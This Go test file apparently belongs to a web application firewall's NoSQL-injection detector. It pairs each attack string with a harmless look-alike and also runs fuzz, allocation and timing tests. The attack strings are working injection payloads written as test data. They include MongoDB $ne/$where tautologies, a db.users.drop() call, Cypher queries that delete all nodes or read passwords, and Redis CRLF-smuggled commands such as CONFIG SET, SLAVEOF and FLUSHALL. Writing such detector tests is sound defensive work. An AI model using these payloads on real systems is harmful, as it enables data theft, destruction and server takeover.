package nosql

import (
	"strings"
	"testing"
	"time"

	"kongwaf/detect"
	"kongwaf/detect/attack/value"
)

func judge(text string, name bool) value.Match {
	v := value.Of(text, detect.SourceQuery, "q")
	v.IsName = name
	if !Possible(v.Traits) {
		return value.Match{}
	}
	return Judge(&v)
}

// Every attack stands beside something harmless that shares its words or marks.
var twins = []struct {
	shows  string
	attack string
	twin   string
	name   bool // both are names of parameters or fields
}{
	{shows: "operator in a parameter's name", attack: "user[$ne]", twin: "user[name]", name: true},
	{shows: "operator as a JSON key", attack: "$gt", twin: "$schema", name: true},
	{shows: "code as a JSON key", attack: "$where", twin: "$ref", name: true},
	{shows: "pattern as a key", attack: "$regex", twin: "$id", name: true},
	{shows: "list as a key", attack: "filter[$in][]", twin: "filter[in][]", name: true},
	{shows: "dotted name", attack: "user.$ne", twin: "user.$set", name: true},
	{shows: "analytics and OData keys", attack: "$or", twin: "$filter", name: true},
	{shows: "operator document", attack: `{"$gt":""}`, twin: `{"$ref":"#/definitions/a"}`},
	{shows: "operator document without quotes", attack: "{$ne: 1}", twin: "{$name: 1}"},
	{shows: "operator in a document", attack: `{"user":{"$ne":null}}`, twin: `{"price":{"$":5}}`},
	{shows: "operator in single quotes", attack: "{'$regex':'.*'}", twin: "'$regex' is a variable"},
	{shows: "operator pasted behind a value", attack: "', $or: [ {}, { 'a':'a", twin: "', $order: [1]"},
	{shows: "condition pasted behind a value", attack: "true, $where: '1 == 1'", twin: "true, $where it hurts"},
	{shows: "bracketed operator as text", attack: "[$ne]=1", twin: "[$5]=1"},
	{shows: "price, shell and jQuery", attack: `{"$nin":[]}`, twin: "$price, ${HOME}, $(document).ready(f), $.ajax({url: x})"},
	{shows: "PHP array", attack: `{"$exists":true}`, twin: `array('$gt' => 5)`},
	{shows: "return in $where", attack: "'; return true; var a='", twin: "I'll return; true story"},
	{shows: "return of a comparison", attack: "';return 'a'=='a' && ''=='", twin: "a'; return to sender"},
	{shows: "return in brackets", attack: `";return(true);var x='a`, twin: `"hello"; return(0)`},
	{shows: "condition on the document", attack: "' && this.password.match(/.*/)//", twin: "you' && this.is fun"},
	{shows: "or on the document", attack: "1 || this.role=='admin'", twin: "1 || these"},
	{shows: "tautology in JavaScript", attack: "' || '1'=='1", twin: "a || b == c"},
	{shows: "tautology of numbers", attack: "|| 1==1//", twin: "|| x==1"},
	{shows: "delay", attack: "';sleep(5000);'", twin: "'; sleep (well)"},
	{shows: "busy loop", attack: "0;var d=new Date();do{c=new Date();}while(c-d<10000)", twin: "0; do it while (new Date lasts)"},
	{shows: "database call behind a value", attack: "0;db.users.drop()", twin: "0; db.users is a table"},
	{shows: "database script", attack: "db.a.insert({x:1});return 1;", twin: "db.a.b is the host"},
	{shows: "Cypher delete", attack: "' OR 1=1 WITH 1 as a MATCH (n) DETACH DELETE n//", twin: "match (noun), detach, delete"},
	{shows: "Cypher match", attack: "'}) MATCH (u:User) RETURN u.password//", twin: "it's a match (2-1) and they return"},
	{shows: "Cypher file", attack: "' LOAD CSV FROM 'http://x/'+n.name AS l RETURN l//", twin: "load the csv from disk"},
	{shows: "Cypher procedure", attack: "' CALL db.labels() YIELD label RETURN 1//", twin: "call db. admin"},
	{shows: "Redis configuration", attack: "x\r\nCONFIG SET dir /var/www\r\n", twin: "line\r\nconfig set by hand\r\n"},
	{shows: "Redis replication", attack: "x\r\nSLAVEOF 10.0.0.1 6379\r\n", twin: "line\r\nslave ship\r\n"},
	{shows: "Redis protocol", attack: "*2\r\n$4\r\nKEYS\r\n$1\r\n*\r\n", twin: "* two\r\n$4 each\r\n"},
	{shows: "Redis script", attack: "x\r\nEVAL \"return 1\" 0\r\n", twin: "line\r\nevaluate \"this\"\r\n"},
	{shows: "Redis erasure", attack: "x\r\nFLUSHALL\r\n", twin: "line\r\nflush all of it\r\n"},
}

func TestTwins(t *testing.T) {
	for _, row := range twins {
		t.Run(row.shows, func(t *testing.T) {
			if m := judge(row.attack, row.name); m.Confidence < 0.7 || m.Class != detect.ClassNoSQLi {
				t.Errorf("attack %q: %v %.2f %s", row.attack, m.Class, m.Confidence, m.Shape)
			}
			if m := judge(row.twin, row.name); m.Confidence >= 0.4 {
				t.Errorf("harmless %q: %.2f %s", row.twin, m.Confidence, m.Shape)
			}
		})
	}
}

// A text about MongoDB is not an attack on one.
func TestDocumentation(t *testing.T) {
	text := "To find adults, write a filter. " + strings.Repeat("It is a document. ", 20) + "db.users.find({age: {$gte: 18}})"
	if m := judge(text, false); m.Confidence >= 0.7 {
		t.Errorf("%.2f %s", m.Confidence, m.Shape)
	}
}

func TestNoAllocations(t *testing.T) {
	for _, row := range twins {
		v := value.Of(row.twin, detect.SourceQuery, "q")
		if n := testing.AllocsPerRun(20, func() { Judge(&v) }); n != 0 {
			t.Errorf("%q: %v allocations", row.twin, n)
		}
	}
}

func FuzzJudge(f *testing.F) {
	for _, row := range twins {
		f.Add(row.attack, row.name)
		f.Add(row.twin, row.name)
	}
	f.Add("$", false)
	f.Add("[$ne", true)
	f.Add("';return", false)
	f.Add("\r\n", false)
	f.Fuzz(func(t *testing.T, text string, name bool) {
		v := value.Of(text, detect.SourceQuery, "q")
		v.IsName = name
		m := Judge(&v)
		if m.Confidence < 0 || m.Confidence > 1 || m.Start < 0 || m.Start > m.End || m.End > len(text) {
			t.Fatalf("%q: %+v", text, m)
		}
		if m.Confidence > 0 && !Possible(v.Traits) {
			t.Fatalf("%q: Judge says %.2f, Possible says no", text, m.Confidence)
		}
	})
}

var hostile = []string{"$", "$ne", "{$", "{\"$ne\":", "[$ne]", "\r\n", "\r\n$", "*1\r\n$", "\r\nCONFIG ", "';", "; return ", ";do ", "|| ", "match (", "match (a) ", "call db.", "detach delete ", " ", ")", "or "}

// Cost must grow with the length and no faster.
func TestLinear(t *testing.T) {
	if testing.Short() {
		t.Skip("measures time")
	}
	for _, unit := range hostile {
		cost := func(n int) time.Duration {
			v := value.Of(strings.Repeat(unit, n/len(unit)+1), detect.SourceQuery, "q")
			best := time.Hour
			for range 3 {
				start := time.Now()
				Judge(&v)
				best = min(best, time.Since(start))
			}
			return best
		}
		short, long := cost(1<<15), cost(1<<19)
		if long > 64*short+5*time.Millisecond { // 16 times as long
			t.Errorf("%q: %v for 32 KB, %v for 512 KB", unit, short, long)
		}
	}
}

func BenchmarkHostile(b *testing.B) {
	for _, unit := range hostile {
		b.Run(unit, func(b *testing.B) {
			v := value.Of(strings.Repeat(unit, 1<<20/len(unit)), detect.SourceQuery, "q")
			b.SetBytes(int64(len(v.Text)))
			b.ReportAllocs()
			for b.Loop() {
				Judge(&v)
			}
		})
	}
}
